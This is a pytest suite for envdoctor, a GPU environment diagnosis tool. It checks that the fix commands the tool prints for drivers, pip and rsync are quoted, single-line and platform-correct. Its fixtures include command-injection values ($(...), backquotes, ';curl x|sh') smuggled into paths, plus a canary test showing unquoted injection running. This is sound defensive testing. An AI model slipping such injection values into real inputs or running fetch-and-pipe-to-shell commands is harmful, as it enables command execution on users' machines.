"""Fix commands are safe to paste: quoted, one line each, for the judged interpreter and the platform (envdoctor.remedies)."""

from __future__ import annotations

import inspect
import json
import re
import shlex
import shutil
import subprocess
from dataclasses import replace
from typing import Iterator, List, Tuple

import pytest

from envdoctor.compat import load_compat
from envdoctor.model.facts import Facts, ProbeStatus
from envdoctor.model.findings import Report
from envdoctor.remedies import (
    POWERSHELL,
    Placeholder,
    command,
    driver_install,
    export,
    family_of,
    pip_install,
    quote,
)
from envdoctor.remedies.shell_wrap import split_comment, wrap_command
from envdoctor.report.console import COMMAND_INDENT, render_console
from envdoctor.services.collect import judge
from tests import machines as m
from tests.paths import SHARED, TESTS

ROOT = TESTS
SNAPSHOTS = sorted((ROOT / "fixtures" / "snapshots").glob("*.json"))
PASTES = sorted((ROOT / "fixtures" / "pastes").glob("*.txt"))
SHARED_PASTES = sorted(SHARED.glob("examples/reports*/*.txt"))
HOSTILE = ROOT / "fixtures" / "snapshots" / "hostile-values.json"
BASH = shutil.which("bash")
needs_bash = pytest.mark.skipif(BASH is None, reason="bash is not installed")

# Expansions envdoctor writes on purpose (PATH=/usr/local/cuda-12.4/bin:$PATH); any other $NAME, $(...) or
# backquote outside single quotes came from the facts unquoted.
_ALLOWED_EXPANSIONS = {"PATH"}


def _unquoted_expansions(cmd: str) -> List[str]:
    """Expansions and redirections outside quotes in a POSIX command (the comment excluded)."""
    code, _ = split_comment(cmd)
    found: List[str] = []
    quote_char = None
    escaped = False
    for i, ch in enumerate(code):
        if escaped:
            escaped = False
            continue
        if quote_char == "'":
            if ch == "'":
                quote_char = None
            continue
        if ch == "\\":
            escaped = True
        elif ch == "`":
            found.append("`")
        elif ch == "$":
            m_ = re.match(r"\$(\(|\{|[A-Za-z_][A-Za-z0-9_]*)", code[i:])
            if m_ and m_.group(1) not in _ALLOWED_EXPANSIONS:
                found.append(m_.group(0))
        elif quote_char == '"':
            if ch == '"':
                quote_char = None
        elif ch in "'\"":
            quote_char = ch
        elif ch in "<>":
            found.append(ch)  # envdoctor's commands never redirect: a bare <n> placeholder does
        elif ch == "&" and code[i + 1:i + 2] != "&" and code[i - 1:i] != "&":
            found.append("&")
    return found


def _fix_commands(report: Report, shown_only: bool = False) -> Iterator[Tuple[str, str]]:
    for f in report.findings:
        # a consequence's commands are its cause's to print (findings.group_by_cause / settle): the console
        # shows the pointer to the cause, not the commands again
        if f.fix is not None and not (shown_only and f.caused_by is not None):
            for c in f.fix.commands:
                yield f.code, c


def _reports() -> Iterator[Tuple[str, Report]]:
    compat = load_compat()
    builders = {f"machines.{name}": build for name, (build, _) in m.SCENARIOS.items()}
    for name, fn in vars(m).items():
        # every zero-argument builder in tests/machines.py, not only the listed scenarios
        if callable(fn) and getattr(fn, "__module__", None) == m.__name__ and not name.startswith("_"):
            params = inspect.signature(fn).parameters.values()
            if all(p.default is not inspect.Parameter.empty for p in params):
                builders.setdefault(f"machines.{name}", fn)
    for name, build in builders.items():
        facts = build()
        if isinstance(facts, Facts):
            yield name, judge(facts, compat)
    for path in SNAPSHOTS:
        yield path.name, judge(Facts.from_dict(json.loads(path.read_text(encoding="utf-8"))), compat)
    from envdoctor.diagnose import NothingRecognised
    from envdoctor.services.diagnose import diagnose_report

    for path in PASTES + SHARED_PASTES:
        try:
            yield path.name, diagnose_report([path.read_text(encoding="utf-8", errors="replace")], compat)
        except NothingRecognised:
            continue


def _all_commands() -> List[Tuple[str, str, str]]:
    out = []
    for source, report in _reports():
        windows = report.facts.host.os == "Windows"
        for code, c in _fix_commands(report):
            out.append((source, code, ("powershell:" if windows else "") + c))
    return out


@pytest.fixture(scope="module")
def every_command() -> List[Tuple[str, str, str]]:
    cmds = _all_commands()
    assert len(cmds) > 100  # every fixture's fixes, not a handful
    return cmds


@needs_bash
def test_every_fix_of_every_fixture_parses_in_bash(every_command):
    bad = []
    for source, code, cmd in every_command:
        if cmd.startswith("powershell:"):
            continue
        r = subprocess.run([BASH, "-n", "-c", cmd], capture_output=True, text=True, timeout=120)
        if r.returncode != 0:
            bad.append((source, code, cmd, r.stderr.strip()))
    assert not bad, bad


def test_no_fix_expands_or_redirects_anything_unquoted(every_command):
    bad = [(s, c, cmd, _unquoted_expansions(cmd)) for s, c, cmd in every_command
           if not cmd.startswith("powershell:") and _unquoted_expansions(cmd)]
    assert not bad, bad


def test_every_fix_is_one_line(every_command):
    assert not [x for x in every_command if len(x[2].splitlines()) != 1]


def test_the_checker_catches_an_unquoted_value():
    # the two checks above must fail on what envdoctor used to write
    assert _unquoted_expansions("rsync -a /data/$(touch x)/ /local_nvme/data/") == ["$("]
    assert _unquoted_expansions("docker run --cpus=<n> ...") == ["<", ">"]
    assert _unquoted_expansions("export LD_LIBRARY_PATH=/a;curl x|sh") == []  # parses: bash -n is not enough
    if BASH:
        r = subprocess.run([BASH, "-n", "-c", "export CUDA_VISIBLE_DEVICES=<idle GPU indices>"],
                           capture_output=True, timeout=120)
        assert r.returncode != 0


# --------------------------------------------------------------------------- hostile values


def _hostile_report() -> Report:
    return judge(Facts.from_dict(json.loads(HOSTILE.read_text(encoding="utf-8"))))


HOSTILE_VALUES = [
    "/opt/my venv/$(echo pwned >pwned-dollar)/`echo pwned >pwned-tick`/bin/python",
    "/data/my set $(echo pwned >pwned-dollar) `echo pwned >pwned-tick` it's \"quoted\";echo pwned >pwned-semi;/",
    "/data/mnt `echo pwned >pwned-tick`",
    "/usr/lib/x86_64-linux-gnu;echo pwned >pwned-semi;curl x|sh",
    "--directory=/scratch/it's \"quoted\" $(echo pwned >pwned-dollar)",
    "Xid (PCI:0000:3b:00';echo pwned >pwned-semi;'",
]


def test_hostile_snapshot_fixes_keep_each_value_one_argument():
    cmds = [c for _, c in _fix_commands(_hostile_report())]
    words = [w for c in cmds for w in shlex.split(c, comments=True)]
    for value in HOSTILE_VALUES:
        assert any(value == w or w.startswith(value.split("=", 1)[0] + "=") and value in w
                   or ("LD_LIBRARY_PATH=" + value) == w for w in words), value
    # the values with a newline are refused, and say so
    refused = [c for c in cmds if c.startswith("# not written out")]
    assert any("LD_LIBRARY_PATH" in c for c in refused) and any("data path" in c for c in refused)
    assert all(len(c.splitlines()) == 1 for c in cmds)


@needs_bash
def test_hostile_snapshot_fixes_run_nothing_when_pasted(tmp_path):
    """Each command runs under bash with an empty PATH: programs are not found, but anything the facts
    smuggled in as $(...), `...` or ;... would run through builtins and leave a pwned-* file."""
    empty = tmp_path / "bin"
    empty.mkdir()
    cmds = [c for _, c in _fix_commands(_hostile_report())]
    assert len(cmds) >= 8
    for c in cmds:
        subprocess.run([BASH, "--noprofile", "--norc", "-c", c], cwd=tmp_path, env={"PATH": str(empty)},
                       capture_output=True, timeout=120)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bin"]


@needs_bash
def test_the_canary_works(tmp_path):
    # the same command written the old, unquoted way does leave the file: the test above can fail
    subprocess.run([BASH, "-c", "rsync -a /data/$(echo pwned >pwned-dollar)/ x"], cwd=tmp_path,
                   env={"PATH": ""}, capture_output=True, timeout=120)
    assert (tmp_path / "pwned-dollar").exists()


def test_cli_check_facts_on_the_hostile_snapshot_prints_quoted_commands(capsys):
    from envdoctor.cli import main

    rc = main(["check", "--facts", str(HOSTILE), "--format", "json"])
    assert rc == 1
    data = json.loads(capsys.readouterr().out)
    cmds = [c for f in data["findings"] if f["fix"] for c in f["fix"]["commands"]]
    assert "'/opt/my venv/$(echo pwned >pwned-dollar)/`echo pwned >pwned-tick`/bin/python' -m pip install " \
           "--force-reinstall torch==2.1.0 --index-url https://download.pytorch.org/whl/cu118" in cmds
    assert not [c for c in cmds if _unquoted_expansions(c)]


# --------------------------------------------------------------------------- the judged interpreter


def _pip_lines(report: Report) -> List[str]:
    return [c for _, c in _fix_commands(report) if " pip " in c]


def test_fixes_name_the_judged_interpreter():
    facts = m.h100_old_driver()
    py = replace(facts.pythons[0], executable="/srv/envs/train/bin/python3.11")
    lines = _pip_lines(judge(replace(facts, pythons=[py])))
    assert lines and all(line.startswith("/srv/envs/train/bin/python3.11 -m pip install ") for line in lines)


def test_several_interpreters_each_get_their_own_fix_and_the_console_says_which():
    facts = m.h100_old_driver()
    a = replace(facts.pythons[0], executable="/opt/a/bin/python")
    b = replace(facts.pythons[0], executable="/opt/b/bin/python")
    report = judge(replace(facts, pythons=[a, b]))
    too_old = [f for f in report.findings if f.code == "driver.cuda-compat/too-old"]
    assert sorted(f.subject for f in too_old) == ["/opt/a/bin/python", "/opt/b/bin/python"]
    for f in too_old:
        assert any(c.startswith(f.subject + " -m pip install") for c in f.fix.commands)
    text = render_console(report, width=100, color=False)
    assert "· in /opt/a/bin/python" in text and "· in /opt/b/bin/python" in text
    single = render_console(judge(replace(facts, pythons=[a])), width=100, color=False)
    assert "· in /opt/a/bin/python" not in single  # one interpreter: nothing to tell apart


def test_uv_managed_env_gets_uv_pip_with_python():
    facts = m.h100_old_driver()
    py = facts.pythons[0]
    py = replace(py, packages=[replace(p, installer="uv") if p.name == "torch" else p for p in py.packages])
    (line,) = _pip_lines(judge(replace(facts, pythons=[py])))
    assert line == ("uv pip install --python /opt/venv/bin/python --reinstall torch==2.1.0 "
                    "--index-url https://download.pytorch.org/whl/cu118")


def test_unknown_interpreter_falls_back_to_python():
    facts = m.h100_old_driver()
    py = replace(facts.pythons[0], executable=None)
    assert pip_install(facts, py, ["torch==2.5.1"], "cu124") == \
        "python -m pip install torch==2.5.1 --index-url https://download.pytorch.org/whl/cu124"


def test_windows_interpreter_gets_powershell_quoting():
    facts = replace(m.h100_old_driver(), host=m.host(os="Windows", distro_id=None))
    py = replace(facts.pythons[0], executable=r"C:\Users\me\my env\Scripts\python.exe", platform="win-amd64")
    assert pip_install(facts, py, ["torch==2.5.1"], "cu124") == (
        r"& 'C:\Users\me\my env\Scripts\python.exe' -m pip install torch==2.5.1 "
        "--index-url https://download.pytorch.org/whl/cu124")
    assert quote("it's ‘x’", POWERSHELL) == "'it''s ‘‘x’’'"
    assert export("X", "a$b", shell=POWERSHELL) == "$env:X = 'a$b'"


def test_a_target_without_pip_gets_ensurepip_before_every_pip_command():
    # issue 30: the planner knows whether the target has pip; uv needs none inside the interpreter
    facts = m.h100_old_driver()
    py = replace(facts.pythons[0], has_pip=False, is_venv=True)
    line = pip_install(facts, py, ["torch==2.5.1"], "cu124")
    assert line == ("/opt/venv/bin/python -m ensurepip --upgrade --default-pip && /opt/venv/bin/python -m pip install "
                    "torch==2.5.1 --index-url https://download.pytorch.org/whl/cu124")
    assert subprocess.run(["bash", "-n", "-c", line], timeout=30).returncode == 0
    system = replace(py, is_venv=False)  # a system Python: no `pip` script written over the distribution's
    assert pip_install(facts, system, ["torch==2.5.1"]).startswith("/opt/venv/bin/python -m ensurepip --upgrade && ")
    assert pip_install(facts, replace(py, has_pip=None), ["torch==2.5.1"]).startswith("/opt/venv/bin/python -m pip ")
    uv = replace(py, packages=[replace(p, installer="uv") if p.name == "torch" else p for p in py.packages])
    assert pip_install(facts, uv, ["torch==2.5.1"]).startswith("uv pip install --python /opt/venv/bin/python ")
    win = replace(py, executable=r"C:\envs\a b\Scripts\python.exe", platform="win-amd64")
    assert pip_install(replace(facts, host=m.host(os="Windows", distro_id=None)), win, ["torch==2.5.1"]) == (
        r"& 'C:\envs\a b\Scripts\python.exe' -m ensurepip --upgrade --default-pip ; "
        r"& 'C:\envs\a b\Scripts\python.exe' -m pip install torch==2.5.1")


def test_repair_venv_removes_the_dead_links_then_upgrades_with_the_same_minor():
    from envdoctor.model.facts import InterpreterLink, VenvConfig
    from envdoctor.remedies import repair_venv

    venv = VenvConfig(root="/srv/my venv", version="3.12.3", include_system_site_packages=True,
                      links=[InterpreterLink("/srv/my venv/bin/python", "python3.12", False),
                             InterpreterLink("/srv/my venv/bin/python3", "/usr/bin/python3.11", True)])
    cmds = repair_venv(venv)
    assert cmds == ["rm -f -- '/srv/my venv/bin/python'",
                    "python3.12 -m venv --upgrade --system-site-packages '/srv/my venv'"]
    assert all(subprocess.run(["bash", "-n", "-c", c], timeout=30).returncode == 0 for c in cmds)


# --------------------------------------------------------------------------- the platform


def _driver_fix(**host_kw) -> Tuple[str, List[str]]:
    facts = replace(m.h100_old_driver(), host=m.host(**host_kw))
    (f,) = [f for f in judge(facts, only=["driver.cuda-compat"]).findings]
    return f.fix.summary, [c for c in f.fix.commands if " pip " not in c]


def test_ubuntu_gets_apt():
    # an H100 is a data-center GPU: Ubuntu's -server build of the branch
    _, cmds = _driver_fix(distro_id="ubuntu", distro_version="22.04")
    assert cmds == ["sudo apt-get install -y nvidia-driver-580-server   # Ubuntu; then reboot"]


def test_one_driver_upgrade_is_one_command_in_every_finding():
    """The CUDA-compat fix and the branch-lifecycle fix of one old driver name the same package (they differed
    in -server: the lifecycle check always took it, the CUDA check never); a GeForce takes the desktop build."""
    for gpu, want in ((m.gpu(0, "NVIDIA H100 80GB HBM3", "9.0"), "nvidia-driver-580-server"),
                      (m.gpu(0, "NVIDIA GeForce RTX 3090", "8.6", 24), "nvidia-driver-580")):
        base = m.h100_old_driver()
        facts = replace(base, driver=replace(base.driver, gpus=[gpu]))
        report = judge(facts, only=["driver.cuda-compat", "driver.lifecycle"])
        installs = {c for f in report.findings if f.fix for c in f.fix.commands if "apt-get install" in c}
        assert installs == {f"sudo apt-get install -y {want}   # Ubuntu; then reboot"}, installs


def test_debian_gets_apt_from_nvidia_repo():
    _, cmds = _driver_fix(distro_id="debian", distro_version="12")
    assert cmds == ["sudo apt-get install -y cuda-drivers-580   # Debian, NVIDIA's CUDA repository; then reboot"]


def test_fedora_gets_dnf_versionlock():
    _, cmds = _driver_fix(distro_id="fedora", distro_version="41")
    assert cmds == ["sudo dnf versionlock add '*nvidia*580*' && sudo dnf install -y nvidia-open   # Fedora; "
                    "then reboot"]


def test_rhel_9_gets_the_module_stream_and_rhel_10_versionlock():
    _, cmds = _driver_fix(distro_id="rocky", distro_version="9.4", distro_like="rhel centos fedora")
    assert cmds == ["sudo dnf module enable -y nvidia-driver:580-open && sudo dnf install -y nvidia-open   "
                    "# RHEL/Rocky 8/9 (CUDA repo); then reboot"]
    _, cmds = _driver_fix(distro_id="rhel", distro_version="10.0")
    assert cmds[0].startswith("sudo dnf versionlock add '*nvidia*580*' && sudo dnf install -y nvidia-open")


def test_suse_gets_zypper_and_arch_pacman():
    _, cmds = _driver_fix(distro_id="opensuse-leap", distro_version="15.6")
    assert cmds == ["sudo zypper install -y cuda-drivers-580   # SUSE, NVIDIA's CUDA repository; then reboot"]
    _, cmds = _driver_fix(distro_id="sles", distro_version="15.5")
    assert cmds[0].startswith("sudo zypper install -y cuda-drivers-580")
    _, cmds = _driver_fix(distro_id="endeavouros", distro_like="arch")
    assert cmds[0].startswith("sudo pacman -S --needed nvidia-open   # Arch: the newest branch; an older branch "
                              "(R580) is in the AUR as nvidia-580xx-dkms")


def test_an_unknown_distribution_gets_both_common_forms():
    _, cmds = _driver_fix(distro_id=None, distro_version=None)
    assert [c.split("   #")[0] for c in cmds] == [
        "sudo apt-get install -y nvidia-driver-580-server",  # the H100's data-center build
        "sudo dnf module enable -y nvidia-driver:580-open && sudo dnf install -y nvidia-open"]
    assert "# Ubuntu/Debian; then reboot" in cmds[0]


def test_wsl_gets_the_windows_driver_not_a_linux_one():
    summary, cmds = _driver_fix(wsl=True, wsl_version=2, kernel="5.15.153.1-microsoft-standard-WSL2")
    assert cmds == []
    assert "Windows" in summary and "never a Linux NVIDIA driver inside WSL" in summary
    assert "https://www.nvidia.com/Download/index.aspx" in summary


def test_a_container_is_told_to_upgrade_the_host():
    from envdoctor.model.facts import Container

    summary, cmds = _driver_fix(container=Container(runtime="docker"))
    assert "upgrade it on the host" in summary and len(cmds) == 2


def test_driver_present_fix_follows_the_platform():
    from envdoctor.model.facts import Driver

    facts = replace(m.h100_old_driver(), driver=Driver(status=ProbeStatus.ABSENT, reason="no NVML"),
                    host=m.host(distro_id="fedora", distro_version="41"))
    (f,) = [f for f in judge(facts, only=["driver.present"]).findings]
    assert f.fix.commands[0] == "sudo dnf install -y nvidia-open   # Fedora; then reboot"


@pytest.mark.parametrize("distro, version, branch, proprietary, open_", [
    ("fedora", "41", 580, "sudo dnf versionlock add '*nvidia*580*' && sudo dnf install -y cuda-drivers",
     "sudo dnf versionlock add '*nvidia*580*' && sudo dnf install -y nvidia-open"),
    ("rocky", "9.4", 470, "sudo dnf module enable -y nvidia-driver:470-dkms && sudo dnf install -y cuda-drivers",
     "sudo dnf module enable -y nvidia-driver:470-open && sudo dnf install -y nvidia-open"),
    ("rocky", "8.10", None, "sudo dnf module enable -y nvidia-driver:latest-dkms && sudo dnf install -y cuda-drivers",
     "sudo dnf module enable -y nvidia-driver:open-dkms && sudo dnf install -y nvidia-open"),
    ("arch", None, None, "sudo pacman -S --needed nvidia", "sudo pacman -S --needed nvidia-open"),
])
def test_pre_turing_gpus_get_the_proprietary_modules(distro, version, branch, proprietary, open_):
    # open kernel modules drive Turing and newer only (NVIDIA Driver Installation Guide, "Kernel Modules"): a V100
    # or a K80 gets the *-dkms stream and cuda-drivers, never nvidia-open; an H100 keeps the open flavour
    base = replace(m.h100_old_driver(), host=m.host(distro_id=distro, distro_version=version))
    old = replace(base, driver=replace(base.driver, gpus=[m.gpu(0, "Tesla V100-SXM2-16GB", "7.0", 16)]))
    (cmd,) = driver_install(old, branch).commands
    assert cmd.startswith(proprietary + "   #") and "nvidia-open" not in cmd and "older than Turing" in cmd
    (cmd,) = driver_install(base, branch).commands
    assert cmd.startswith(open_ + "   #") and "older than Turing" not in cmd


def test_family_of_reads_id_like():
    assert family_of("rocky") == "rhel"
    assert family_of("somethingnew", "rhel fedora") == "rhel"
    assert family_of("neon", "ubuntu debian") == "ubuntu"
    assert family_of(None, None) is None


# --------------------------------------------------------------------------- the builder itself


def test_command_quotes_values_and_refuses_line_breaks():
    assert command("rsync", "-a", "/d/a b/", "/x/") == "rsync -a '/d/a b/' /x/"
    assert command("echo", "x\ny").startswith("# not written out")
    assert command("echo", "x\u2028y").startswith("# not written out")
    assert command("echo", "x\x1b[31m").startswith("# not written out")
    assert command("kill", Placeholder("<pid>")) == "kill '<pid>'"
    assert command("ls", comment="a\nb") == "ls   # a b"
    assert export("LD_LIBRARY_PATH", "a\nb").startswith("# not written out")
    with pytest.raises(ValueError):
        export("A;B", "x")


# --------------------------------------------------------------------------- the console at 60 columns


def _rejoin(lines: List[str]) -> str:
    """Console lines of one command back to one shell line: comment lines dropped, continuations joined."""
    code = [ln.strip() for ln in lines if not ln.strip().startswith("#")]
    return " ".join(ln[:-1].rstrip() if ln.endswith("\\") else ln for ln in code)


def test_narrow_console_keeps_every_command_whole_or_continued():
    report = _hostile_report()
    text = render_console(report, width=60, color=False, verbose=True)  # (a note's fix shows under -v)
    out_lines = text.splitlines()
    cmds = [c for _, c in _fix_commands(report, shown_only=True)]
    long_cmds = [c for c in cmds if len(c) + COMMAND_INDENT > 60]
    assert long_cmds
    for c in cmds:
        lines = wrap_command(c, 60)
        # the lines are printed as laid out, consecutively, nothing cut or soft-wrapped
        assert any(out_lines[i:i + len(lines)] == lines for i in range(len(out_lines))), c
        assert shlex.split(_rejoin(lines), comments=True) == shlex.split(c, comments=True), c
        if BASH:
            r = subprocess.run([BASH, "-n", "-c", "\n".join(lines)], capture_output=True, timeout=120)
            assert r.returncode == 0, lines
        for ln in lines:
            code, comment = split_comment(ln)
            # a continuation never ends a comment line: the next line would run on its own
            assert not (comment is not None and ln.endswith("\\")), ln


def test_a_long_command_with_a_comment_wraps_into_valid_shell():
    cmd = ("sudo dnf module enable -y nvidia-driver:580-open && sudo dnf install -y nvidia-open   "
           "# RHEL/Rocky 8/9 (CUDA repo); then reboot")
    lines = wrap_command(cmd, 60)
    assert lines[0].strip() == "# RHEL/Rocky 8/9 (CUDA repo); then reboot"
    assert _rejoin(lines) == cmd.split("   #")[0]
    assert all(len(ln) <= 60 for ln in lines)


def test_host_compiler_fix_follows_the_platform():
    from envdoctor.remedies.toolchain import host_compiler_install

    ubuntu = replace(m.h100_old_driver(), host=m.host())
    assert host_compiler_install(ubuntu, 12)[0] == "sudo apt-get install -y gcc-12 g++-12"
    rocky = replace(ubuntu, host=m.host(distro_id="rocky", distro_version="9.3"))
    assert host_compiler_install(rocky, 12)[0] == "sudo dnf install -y gcc-toolset-12"
    suse = replace(ubuntu, host=m.host(distro_id="opensuse-tumbleweed"))
    assert host_compiler_install(suse, 13)[0] == "sudo zypper install -y gcc13 gcc13-c++"


def test_markdown_names_the_interpreter_and_fences_powershell_on_windows():
    from envdoctor.report.markdown import render_markdown

    facts = m.h100_old_driver()
    a = replace(facts.pythons[0], executable="/opt/a `b`/bin/python")
    b = replace(facts.pythons[0], executable="/opt/b/bin/python")
    text = render_markdown(judge(replace(facts, pythons=[a, b])), redact=False)
    assert "· in ``/opt/a `b`/bin/python``" in text and "· in `/opt/b/bin/python`" in text
    assert "```bash\n" in text
    win = replace(facts, host=m.host(os="Windows", distro_id=None),
                  pythons=[replace(facts.pythons[0], executable=r"C:\venv\Scripts\python.exe", platform="win-amd64")])
    text = render_markdown(judge(win), redact=False)
    assert "```powershell\n" in text and r"C:\venv\Scripts\python.exe -m pip install" in text


def test_the_collection_tests_fail_when_a_check_writes_a_value_unquoted(monkeypatch):
    # what checks/storage.py wrote before the builder: the hostile data path then breaks both tests above
    import envdoctor.checks.storage as storage

    monkeypatch.setattr(storage, "copy_to_local", lambda p: f"rsync -a {p}/ /local_nvme/data/")
    cmds = [c for _, c in _fix_commands(_hostile_report()) if c.startswith("rsync")]
    assert cmds and all(_unquoted_expansions(c) for c in cmds)
    if BASH:
        assert any(subprocess.run([BASH, "-n", "-c", c], capture_output=True, timeout=120).returncode != 0
                   for c in cmds)


def test_a_paste_that_names_the_distribution_gets_its_package_tool():
    _, cmds = _driver_fix(distro_id=None, distro_version=None, distro_name="Rocky Linux 9.3 (Blue Onyx)")
    assert cmds[0].startswith("sudo dnf module enable -y nvidia-driver:580-open")
    _, cmds = _driver_fix(distro_id=None, distro_version=None, distro_name="Red Hat Enterprise Linux 10.0")
    assert cmds[0].startswith("sudo dnf versionlock add")
    _, cmds = _driver_fix(distro_id=None, distro_version=None, distro_name="Ubuntu 22.04.4 LTS")
    assert cmds == ["sudo apt-get install -y nvidia-driver-580-server   # Ubuntu; then reboot"]
    assert family_of(None, None, "Debian GNU/Linux 12 (bookworm)") == "debian"
    assert family_of(None, None, "openSUSE Leap 15.5") == "suse"
